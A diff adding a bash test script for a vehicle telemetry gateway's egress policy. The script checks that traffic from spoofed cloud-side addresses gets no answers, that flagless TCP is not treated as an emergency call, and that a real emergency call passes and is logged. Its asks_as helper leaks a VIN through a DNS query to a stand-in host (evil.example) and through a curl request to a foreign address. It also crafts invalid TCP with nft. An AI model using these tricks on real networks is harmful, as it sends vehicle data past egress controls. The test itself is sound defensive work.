@@ -1,0 +1,57 @@
+#!/bin/bash
+# SPDX-License-Identifier: Apache-2.0
+# What the gateway answers goes to the sender: a sender on the cloud's side would get there
+# what the unit wrote. And an emergency passes recorded or not at all.
+. "$LAB_LIB"
+. tests/live/tap.sh
+
+VIN=SALLYPRT0VAN00042
+cat >$LAB/sender.policy <<EOF
+policy "sender" version 1
+uplink {
+    resolver $RESOLVER4
+    pass tls "$TELEMETRY" port 443
+    deny otherwise reset
+}
+emergency {
+    to $CLOUD4 udp port 5060
+    to $CLOUD4 tcp port 5061
+}
+EOF
+
+# The unit takes on the address of a server in the cloud.
+asks_as() { # SENDER GATEWAY SERVER
+    unit ip addr add "$1" dev lo
+    unit dig +tries=1 +time=1 -b "${1%/*}" "@$2" $VIN.evil.example
+    unit curl -gs -m 1 --interface "${1%/*}" "http://$3/$VIN"
+    unit ip addr del "$1" dev lo
+}
+to_foreign() { lab_seen "(dst host $FOREIGN4 or dst host $FOREIGN6) and not icmp6" | wc -l; }
+
+# Flags that no connection has: the tracker calls it invalid.
+calls_without_flags() {
+    echo 'table ip odd { chain out { type filter hook postrouting priority 0;
+        tcp dport 5061 tcp flags set 0; }; }' | unit nft -f -
+    unit ncat -w 1 $CLOUD4 5061 </dev/null
+    unit nft delete table ip odd
+}
+
+lab_network && lab_cloud && lab_gateway_files
+lab_policy $LAB/sender.policy >$LAB/compile.out 2>&1 && lab_gateway_start
+need "the gateway starts" lab_is_ready
+sysctl -qw net.ipv4.conf.all.rp_filter=2 # loose, as many distributions set it
+lab_capture start
+
+asks_as $FOREIGN6/128 fd66::1 '[2001:db8:5341:4c4c:5950:5254:3056:414e]' >/dev/null 2>&1
+asks_as $FOREIGN4/32 10.66.0.1 203.0.113.77 >/dev/null 2>&1
+calls_without_flags >$LAB/odd.out 2>&1
+echo $VIN | unit ncat -u -w 1 $CLOUD4 5060
+sleep 1
+lab_capture stop
+claim "nothing is answered to a sender on the other side" same "$(to_foreign)" 0
+claim "each such attempt is recorded" lab_wait 3 lab_has protocol_not_allowed
+claim "what the tracker calls invalid is no emergency" \
+    same "$(lab_seen 'tcp port 5061' | wc -l)" 0
+claim "an emergency passes" same "$(lab_seen 'dst port 5060' | wc -l)" 1
+claim "and is recorded" lab_wait 3 lab_has emergency
+tap_done
